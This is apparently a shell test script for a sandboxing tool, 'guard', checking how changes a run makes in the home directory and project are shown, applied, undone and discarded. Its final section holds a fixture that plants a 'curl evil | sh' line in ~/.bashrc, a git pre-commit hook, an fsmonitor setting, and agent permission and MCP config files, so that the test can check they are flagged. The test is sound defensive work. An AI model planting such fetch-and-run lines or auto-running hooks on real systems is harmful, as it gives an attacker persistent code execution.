#!/bin/sh
# Changes of a run in the home: shown, and applied by path only.
# shellcheck source=tests/lib/tap.sh
. "${0%/*}/../lib/tap.sh"

make_home
cd "$HOME/project" || exit 99
mkdir -p "$HOME/.config/app/old" "$HOME/.config/other" "$HOME/.cache"
echo 'a = 1' >"$HOME/.config/app/settings"
echo keep >"$HOME/.config/other/keep"
echo old >"$HOME/.config/app/old/x"
echo theirs >"$HOME/.profile"
echo mine >"$HOME/.tool"
chmod 640 "$HOME/.config/app/settings"
touch -d '2020-01-01 00:00:00' "$HOME/.config/app/settings"

# The changes that a tool makes in a home when it is used.
cat >"$HOME/use" <<'END'
echo 'a = 2' >~/.config/app/settings
rm -r ~/.config/app/old
mkdir -p ~/.config/new/deep
echo new >~/.config/new/deep/x
ln -s deep/x ~/.config/new/link
chmod 700 ~/.config/other
echo from the run >>~/.profile
echo run >~/.tool
mkdir -p ~/.cache/tool
echo cached >~/.cache/tool/x
echo edited >file
END
echo first >file
gives 0 'a run changes project and home' guard run -- sh "$HOME/use"
run=$(sed -n 's/^guard: run \([^ ]*\) in .*/\1/p' "$err")

# --- the home is never applied by default ---
gives 0 'apply accepts a path of the project' guard apply -y "$run" file
is "$(cat file)" edited 'apply writes the file of the project'
says "$err" 'in your home directory not applied'
says "$err" "guard apply $run ~/PATH"
is "$(cat "$HOME/.tool")" mine 'apply changes nothing in the home'
gives 0 'status lists the run with changes in the home' guard status
says "$out" ' in home  !! 1 critical  sh '
silent "$out" 'no changes'
gives 0 'diff lists the changes in the home' guard diff
says "$out" '+++ ~/.tool'
sed -n 's,^  [A-Z]  \(~/[^ ]*\).*,\1,p' "$out" >"$T/listed"
ok 'some paths are listed' test -s "$T/listed"
while read -r path; do
	gives 0 "diff accepts $path as it was printed" guard diff "$path"
done <"$T/listed"

# --- paths in the home ---
gives 1 'apply of an unchanged path in the home is refused' \
	guard apply -y "$run" "$HOME/nothing"
gives 0 'apply -n accepts a directory of the home' \
	guard apply -n "$run" "$HOME/.config"
says "$out" '/.config/app/settings'
says "$out" '/.config/app/old/x'
silent "$out" '.profile'
is "$(cat "$HOME/.config/app/settings")" 'a = 1' \
	'apply -n changes nothing in the home'
gives 0 'apply accepts a directory of the home' \
	guard apply -y "$run" "$HOME/.config"
is "$(cat "$HOME/.config/app/settings")" 'a = 2' \
	'apply replaces a file of the home'
is "$(stat -c %a "$HOME/.config/app/settings")" 640 \
	'apply keeps the mode of the replaced file'
no 'apply deletes a directory of the home' test -e "$HOME/.config/app/old"
is "$(cat "$HOME/.config/new/link")" new \
	'apply creates a new directory in the home'
is "$(stat -c %a "$HOME/.config/other")" 700 \
	'apply changes the mode of a directory'
is "$(cat "$HOME/.config/other/keep")" keep \
	'apply keeps the files in that directory'
is "$(cat "$HOME/.tool")" mine \
	'apply of a path changes nothing else in the home'
no 'apply leaves no staging directory in the home' \
	sh -c 'ls -A "$HOME" | grep -q guard-staging'
gives 0 'diff no longer lists applied paths of the home' \
	guard diff --name-only "$run"
silent "$out" '.config'
says "$out" '/.tool'

# --- undo and restore in the home ---
gives 0 'undo reverts the apply in the home' guard undo -y
is "$(cat "$HOME/.config/app/settings")" 'a = 1' \
	'undo restores a file of the home'
ok 'a replaced file has the present time' test -n \
	"$(find "$HOME/.config/app/settings" -newermt '1 hour ago')"
is "$(cat "$HOME/.config/app/old/x")" old 'undo brings back a deleted directory'
no 'undo deletes a new directory' test -e "$HOME/.config/new"
is "$(cat file)" edited 'undo keeps what was applied before'
gives 0 'redo is accepted' guard redo -y
is "$(cat "$HOME/.config/new/link")" new \
	'redo applies the directory again'
gives 0 'log accepts a file of the home' guard log "$HOME/.config/app/settings"
gives 0 'restore accepts a directory of the home' \
	guard restore -y "$HOME/.config/app/old"
gives 0 'restore accepts an older version of a file in the home' \
	guard restore -y --at latest~1 "$HOME/.config/app/settings"
is "$(cat "$HOME/.config/app/settings")" 'a = 1' \
	'restore brings back the content before the apply'
is "$(cat "$HOME/.config/app/old/x")" old 'restore brings back the directory'
is "$(cat "$HOME/.config/new/link")" new 'restore changes no other directory'
is "$(cat "$HOME/.config/other/keep")" keep \
	'restore keeps a file that was never stored'
gives 0 'restore --exact accepts a directory of the home' \
	guard restore -y --exact "$HOME/.config"
is "$(cat "$HOME/.config/other/keep")" keep \
	'restore --exact keeps files that were never stored'
gives 0 'restore finds snapshots of a project in the home' \
	guard restore -n --at latest file

# --- changes without a question ---
gives 0 'a run changes only a history and a cache' guard run -- sh -c \
	'echo x >~/.python_history; mkdir -p ~/.cache/tool; : >~/.cache/tool/y'
says "$err" 'changed nothing but caches and histories in your home directory'
is "$(guard status -q | head -n 1)" "$run" \
	'a run of histories and caches is not pending'
gives 0 'a run changes a history and another file' guard run -- sh -c \
	'echo x >~/.python_history; echo x >~/.other'
says "$err" '1 change in your home directory'
gives 0 'a run with another file is pending' guard discard -y latest

# --- project and home in one transaction ---
echo 'echo two >file; echo two >~/.tool; echo x >~/.fresh' >"$HOME/both"
gives 0 'a run changes project and home again' guard run -- sh "$HOME/both"
run=$(sed -n 's/^guard: run \([^ ]*\) in .*/\1/p' "$err")
gives 0 'apply accepts paths of project and home together' \
	guard apply --yes-to all -y "$run" . "$HOME/.tool" "$HOME/.fresh"
is "$(cat file) $(cat "$HOME/.tool") $(cat "$HOME/.fresh")" 'two two x' \
	'apply writes project and home'
gives 0 'status works after that apply' guard status
silent "$out" "$run"
gives 0 'undo reverts the apply of project and home' guard undo -y
is "$(cat file) $(cat "$HOME/.tool")" 'edited mine' \
	'undo restores project and home'
no 'undo deletes the new file in the home' test -e "$HOME/.fresh"

# --- edits of the user ---
cat >"$HOME/slow" <<'END'
echo run >~/.profile
echo run >~/.tool
rm -r ~/.config/other
echo run >~/.made
END
gives 0 'a run changes four entries of the home' guard run -- sh "$HOME/slow"
run=$(sed -n 's/^guard: run \([^ ]*\) in .*/\1/p' "$err")
echo user >"$HOME/.profile"
echo user >"$HOME/.config/other/user"
echo user >"$HOME/.made"
gives 1 'apply refuses a file of the home that the user edited' \
	guard apply -y "$run" "$HOME/.profile" "$HOME/.tool"
says "$err" "'~/.profile': changed on both sides"
is "$(cat "$HOME/.profile") $(cat "$HOME/.tool")" 'user mine' \
	'the refused apply changes nothing'
gives 1 'apply refuses that file together with the project' \
	guard apply -y "$run" "$HOME/.profile" .
gives 1 'apply refuses to delete a directory with a new file' \
	guard apply -y "$run" "$HOME/.config/other"
is "$(cat "$HOME/.config/other/user" "$HOME/.config/other/keep")" \
	'user
keep' 'the refused apply deletes nothing'
gives 1 'apply refuses a file that both sides added' \
	guard apply -y "$run" "$HOME/.made"
is "$(cat "$HOME/.made")" user "the refused apply keeps the user's new file"
gives 0 'apply accepts a file that the user did not edit' \
	guard apply -y "$run" "$HOME/.tool"
is "$(cat "$HOME/.tool")" run 'apply writes that file'
gives 0 'apply --theirs accepts an edited file' \
	guard apply -y --theirs "$run" "$HOME/.profile"
is "$(cat "$HOME/.profile")" run 'apply --theirs replaces the edit'
gives 0 'undo reverts apply --theirs' guard undo -y
is "$(cat "$HOME/.profile")" user 'undo brings back the edit'

# --- run --continue after an apply ---
gives 0 'run --continue changes an applied file again' \
	guard run --continue "$run" -- sh -c \
	'cat ~/.tool; echo more >>~/.tool'
gives 0 'apply accepts a file that only apply has changed' \
	guard apply -y "$run" "$HOME/.tool"
is "$(cat "$HOME/.tool")" 'run
more' 'apply writes the new content'

# --- writes and edits after the end of the run ---
gives 0 'a run changes a file of the home' \
	guard run -- sh -c 'echo left >~/.tool; echo left >~/.late'
run=$(sed -n 's/^guard: run \([^ ]*\) in .*/\1/p' "$err")
layer=$state/runs/$run/home-upper
echo later >"$layer/.tool"
echo later >"$layer/.new"
rm "$layer/.late"
gives 0 'status lists what the run left in the home' \
	guard diff --name-status "$run" "$HOME"
lacks "$out" .new
says "$out" .late
gives 0 'apply takes the stored files of the home' \
	guard apply -y "$run" "$HOME/.tool" "$HOME/.late"
is "$(cat "$HOME/.tool" "$HOME/.late")" 'left
left' 'a later write into the layer of the home is no change of the run'
gives 0 'show prints a file of the home' guard show "$run:$HOME/.tool"
is "$(cat "$out")" left 'as the run left it'
gives 0 'undo reverts it' guard undo -y
echo mine >>"$HOME/.tool"
gives 1 'an edit after the end of the run is a conflict' \
	guard apply -y "$run" "$HOME/.tool"
says "$err" "'~/.tool': changed on both sides"
gives 0 'the run can be discarded' guard discard -y "$run"

# --- caches, which are not stored ---
listed() {
	guard diff --no-renames --name-status "$@" "$HOME" | tr '\t\n' ' ,'
}
rm -rf "$HOME/go"
mkdir -p "$HOME/.ccache"
echo one >"$HOME/.ccache/kept"
gives 0 'a run makes a directory that contains a cache' guard run -- sh -c \
	'mkdir -p ~/go/pkg/mod ~/go/src; echo m >~/go/pkg/mod/m; echo s >~/go/src/s
	echo two >~/.ccache/kept'
run=$(sed -n 's/^guard: run \([^ ]*\) in .*/\1/p' "$err")
all='M ~/.ccache/kept,A ~/go,A ~/go/pkg,A ~/go/pkg/mod,A ~/go/pkg/mod/m,A ~/go/src,A ~/go/src/s,'
is "$(listed "$run")" "$all" 'diff lists stored changes and caches together'
gives 0 'apply accepts the directory' guard apply -y "$run" "$HOME/go"
is "$(cd "$HOME/go" && find . | sort | tr '\n' ' ')" \
	'. ./pkg ./src ./src/s ' 'without the cache in it'
gives 0 'undo reverts it' guard undo -y
gives 0 'apply accepts the cache below the new directory' \
	guard apply -y "$run" "$HOME/go/pkg/mod" "$HOME/.ccache"
is "$(cat "$HOME/go/pkg/mod/m" "$HOME/.ccache/kept")" 'm
two' 'apply writes caches that were named'
is "$(listed "$run")" 'A ~/go/src,A ~/go/src/s,' \
	'an applied cache is no change of the run any more'
gives 0 'undo reverts the apply of caches' guard undo -y
no 'undo deletes a cache and the directories that it needed' \
	test -e "$HOME/go"
is "$(cat "$HOME/.ccache/kept")" one 'undo restores a file of a cache'
is "$(listed "$run")" "$all" 'the changes of caches are pending again'
echo user >"$HOME/.ccache/kept"
gives 1 'apply refuses a file of a cache that the user edited' \
	guard apply -y "$run" "$HOME/.ccache"
says "$err" "'~/.ccache/kept': changed since the run started"
is "$(cat "$HOME/.ccache/kept")" user 'the edit of the cache is kept'
gives 0 'that run can be discarded' guard discard -y "$run"
mkdir -p "$HOME/go/pkg"
gives 0 'a run deletes a cache' guard run -- sh -c \
	'rm -r ~/.ccache; echo run >~/.tool'
run=$(sed -n 's/^guard: run \([^ ]*\) in .*/\1/p' "$err")
gives 0 'apply deletes one file of it' \
	guard apply -y "$run" "$HOME/.ccache/kept"
no 'the file of the cache is deleted' test -e "$HOME/.ccache/kept"
gives 0 'undo restores it' guard undo -y
is "$(cat "$HOME/.ccache/kept")" user 'the deleted file of a cache is back'
gives 0 'the run that deleted a cache can be discarded' \
	guard discard -y "$run"

# --- a discard that is undone after the run went on ---
echo one >"$HOME/.ccache/kept"
echo mine >"$HOME/.tool"
gives 0 'a run changes home, cache and project' guard run -- sh -c \
	'echo run >~/.tool; echo run >~/.ccache/kept; echo run >made'
run=$(sed -n 's/^guard: run \([^ ]*\) in .*/\1/p' "$err")
gives 0 'discard accepts the paths of the home' \
	guard discard -y "$run" "$HOME/.tool" "$HOME/.ccache"
gives 0 'the run goes on' guard run --continue "$run" -- sh -c 'echo >>made'
is "$(listed "$run")" '' 'it has no change in the home'
gives 0 'undo takes the discard back' guard undo -y
# The base of the run that went on does not have them.
is "$(listed "$run" | sed 's/A /M /g')" 'M ~/.ccache/kept,M ~/.tool,' \
	'the discarded changes are pending again'
gives 0 'the discarded changes can be applied' \
	guard apply -y --theirs "$run" "$HOME/.tool" "$HOME/.ccache"
is "$(cat "$HOME/.tool" "$HOME/.ccache/kept")" 'run
run' 'apply writes what had been discarded'
gives 0 'the rest of the run is discarded' guard discard -y "$run"

# Without caches no directory in the layer has another time.
rm -rf "$HOME/.cache" "$HOME/go"
gives 0 'a run changes home and project' guard run -- sh -c \
	'echo again >~/.tool; echo again >made'
run=$(sed -n 's/^guard: run \([^ ]*\) in .*/\1/p' "$err")
gives 0 'its change of the home is discarded' \
	guard discard -y "$run" "$HOME/.tool"
gives 0 'that run goes on' guard run --continue "$run" -- sh -c 'echo >>made'
gives 1 'the end of the run stores no other file of the home' \
	guard restore -n "$HOME/documents/photo.raw"
gives 0 'it is discarded' guard discard -y "$run"

# --- a path in a new directory ---
gives 0 'a run makes directories in the home' guard run -- sh -c \
	'mkdir -p ~/made/one ~/made/two; echo 1 >~/made/one/x; echo 2 >~/made/two/x'
run=$(sed -n 's/^guard: run \([^ ]*\) in .*/\1/p' "$err")
gives 0 'apply accepts a part of a new directory' \
	guard apply -y "$run" "$HOME/made/one"
gives 0 'undo reverts that part' guard undo -y
no 'undo deletes the directory around the part' test -e "$HOME/made"
gives 0 'this run can be discarded' guard discard -y "$run"

# --- a deleted directory after an undo ---
mkdir -p "$HOME/made/sub"
echo x >"$HOME/made/sub/x"
gives 0 'a run deletes a directory' guard run -- sh -c 'rm -r ~/made'
run=$(sed -n 's/^guard: run \([^ ]*\) in .*/\1/p' "$err")
gives 0 'the deletion is applied' guard apply -y "$run" "$HOME/made"
gives 0 'the deletion is undone' guard undo -y
gives 0 'the run that deleted it goes on' \
	guard run --continue "$run" -- sh -c 'echo 1 >~/.later'
gives 0 'what guard restored is no edit of the user' \
	guard apply -y "$run" "$HOME/made"
no 'the deletion is applied again' test -e "$HOME/made"
gives 0 'the run that deleted it can be discarded' guard discard -y "$run"

# --- a deleted directory whose mode the run changed ---
mkdir "$HOME/made"
gives 0 'a run changes the mode of a directory' \
	guard run -- sh -c 'chmod 700 ~/made'
run=$(sed -n 's/^guard: run \([^ ]*\) in .*/\1/p' "$err")
rmdir "$HOME/made"
gives 0 'apply --theirs makes the directory again' \
	guard apply -y --theirs "$run" "$HOME/made"
is "$(stat -c %a "$HOME/made")" 700 'with the mode of the run'
gives 0 'undo reverts that' guard undo -y
no 'undo deletes the directory that was made again' test -e "$HOME/made"
gives 0 'the run with a mode can be discarded' guard discard -y "$run"

# --- applied while the run was live ---
mkdir "$HOME/gate"
mkfifo "$HOME/gate/go"
echo mine >"$HOME/.tool"
echo mine >"$HOME/.second"
guard run --rw "$HOME/gate" -- sh -c 'echo live >~/.tool
	: >made; until read -r line <~/gate/go; do :; done; echo live >~/.second
	: >more; until read -r line <~/gate/go; do :; done' >"$T/live.out" 2>"$T/live.err" &
until run=$(sed -n 's/^guard: run \([^ ]*\) in .*/\1/p' "$T/live.err") &&
	[ -n "$run" ] && [ -e "$state/runs/$run/upper/made" ]; do
	kill -0 $! || break
done
gives 0 'apply accepts a path of the home of a live run' \
	guard apply -y "$run" "$HOME/.tool"
echo >"$HOME/gate/go"
until [ -e "$state/runs/$run/upper/more" ]; do
	kill -0 $! || break
done
is "$(listed "$run")" 'M ~/.second,' \
	'the list of the live run has the changes that were not applied'
gives 0 'a second path of the live run is applied' \
	guard apply -y "$run" "$HOME/.second"
echo >"$HOME/gate/go"
wait
is "$(listed "$run")" '' 'at its end the run has no change in the home'
gives 0 'undo reverts what was applied during the run' guard undo -y 2
is "$(cat "$HOME/.tool") $(listed "$run")" 'mine M ~/.second,M ~/.tool,' \
	'the changes are pending again'
gives 0 'the run that was live can be discarded' guard discard -y "$run"

# --- a directory that the user deleted since ---
mkdir -p "$HOME/lost/deep"
gives 0 'a run adds a file in a directory of the home' \
	guard run -- sh -c 'echo new >~/lost/deep/file'
run=$(sed -n 's/^guard: run \([^ ]*\) in .*/\1/p' "$err")
rm -r "$HOME/lost"
gives 0 'apply --theirs makes the directory again' \
	guard apply -y --theirs "$run" "$HOME/lost"
is "$(cat "$HOME/lost/deep/file")" new 'with the file'
gives 0 'undo deletes it' guard undo -y
no 'completely' test -e "$HOME/lost"
gives 0 'that run is discarded' guard discard -y "$run"

# --- new directories of any depth ---
mkdir -p "$HOME/beside"
gives 0 'a run adds directories within directories' guard run \
	--cow "$HOME/beside" -- sh -c 'for d in ~/.na/b ~/.nb/c/d/e ~/.nb/x \
		~/.config/n1/n2 ~/beside/n1/n2; do mkdir -p $d; echo f >$d/f; done
	echo g >~/.nb/c/g; mkdir -p ~/.nc/empty/empty'
run=$(sed -n 's/^guard: run \([^ ]*\) in .*/\1/p' "$err")

# new_paths: the run's entries that exist.
new_paths() {
	(cd "$HOME" && find .n? .config/n1 beside 2>/dev/null | sort)
}

while read -r made paths; do
	# Another program makes some of the directories, and a file, before.
	# shellcheck disable=SC2046
	[ "$made" = - ] || (cd "$HOME" && mkdir -p $(echo "$made" | tr , ' ') &&
		touch .na/own)
	before=$(new_paths)
	for set in $(echo "$paths" | tr + ' '); do
		# shellcheck disable=SC2046
		gives 0 "apply of $set" guard apply -q -y "$run" \
			$(echo ",$set" | sed "s:,: $HOME/:g")
	done
	count=$(echo "$paths" | tr + '\n' | wc -l)
	applied=$(new_paths)
	gives 0 'undo -n plans it' guard undo -q -n "$count"
	gives 0 'undo takes it back' guard undo -q -y "$count"
	is "$(new_paths)" "$before" 'undo leaves only what there was before'
	gives 0 'redo -n plans it' guard redo -q -n "$count"
	gives 0 'redo repeats it' guard redo -q -y "$count"
	is "$(new_paths)" "$applied" 'redo makes the same entries'
	gives 0 'undo takes it back again' guard undo -q -y "$count"
	[ "$made" = - ] || rm -r "$HOME/.na" "$HOME/.nb"
done <<'END'
- .na/b+.nb/c/d/e/f,.nc/empty/empty
- .nb/c/d/e/f+.nb/c/g+.nb/x,.config/n1/n2,beside/n1/n2/f
.na,.nb/c .na,.nb/c/d,beside/n1
.na/b,.nb .nb,.na
END
gives 0 'the run with the directories is discarded' guard discard -q -y "$run"

# --- the clock was set back since the start of the run ---
gives 0 'a run changes a file before the clock is set back' \
	guard run -- sh -c 'echo clock >~/.tool'
run=$(sed -n 's/^guard: run \([^ ]*\) in .*/\1/p' "$err")
record=$state/runs/$run/record
# As an earlier guard leaves it: nothing of the home directory is stored.
rm "$state/runs/$run/applied-base"
sed -i '/^home-/d' "$record"
cp "$record" "$T/record"
ok 'the record of the run has the state of the clock' \
	grep -q '^clock=[-0-9a-f]* [0-9]*$' "$record"
sed -i "s/^\(clock=.* \)[0-9]*$/\1$(($(date +%s) + 3600))/" "$record"
gives 1 'apply refuses a file when the clock was set back' \
	guard apply -y "$run" "$HOME/.tool"
says "$err" "'~/.tool': changed since the run started"
cp "$T/record" "$record"
rm "$state/runs/$run/applied-base"
sed -i -e 's/^clock=[^ ]*/clock=another-start/' \
	-e "s/^began=.*/began=$(($(date +%s) + 3600)).0/" "$record"
gives 1 'apply refuses a file when the clock is before the start of the run' \
	guard apply -y "$run" "$HOME/.tool"
says "$err" "'~/.tool': changed since the run started"
cp "$T/record" "$record"
rm "$state/runs/$run/applied-base"
gives 0 'apply accepts the file with a steady clock' \
	guard apply -y "$run" "$HOME/.tool"
is "$(cat "$HOME/.tool")" clock 'apply writes the file with a steady clock'

# --- the summary names one change of each kind, the home's first ---
cat >"$HOME/plant" <<'END'
mkdir -p .claude .git/hooks .vscode ~/.config/opencode/plugin ~/.ssh
echo '{"permissions": {"allow": ["Bash"]}}' >.claude/settings.local.json
echo '{"mcpServers": {"x": {"command": "x"}}}' >.mcp.json
echo 'export A=b' >.envrc
printf '#!/bin/sh\nevil\n' >.git/hooks/pre-commit
chmod 755 .git/hooks/pre-commit
git config core.fsmonitor /tmp/x
for name in a b c d; do echo x >.claude/$name.sh; done
echo x >~/.config/opencode/plugin/p.js
echo 'curl evil | sh' >>~/.bashrc
END
gives 0 'a run plants eleven files' guard run -- sh "$HOME/plant"
grep -A 2 'act without being asked' "$err" >"$T/summary"
is "$(cat "$T/summary")" ' !! 11 changes act without being asked: .git/config, .git/hooks/pre-commit,
    ~/.bashrc, ~/.config/opencode/plugin/p.js, .claude/settings.local.json,
    .envrc, and 5 more' 'six of them are named'
ok 'a line fits a terminal' sh -c '! grep -E "^.{81}" "$1"' - "$T/summary"
gives 0 'JSON has the same text' guard diff --json
# shellcheck disable=SC2088 # the text has it
says "$out" '.git/config, .git/hooks/pre-commit, ~/.bashrc, '
guard discard -q -y
gives 0 'three hundred files of one kind' guard run -- sh -c \
	'for i in $(seq 300); do mkdir d$i; echo A=b >d$i/.envrc; done'
says "$err" '300 changes act without being asked: d1/.envrc, and 299 more'

finish
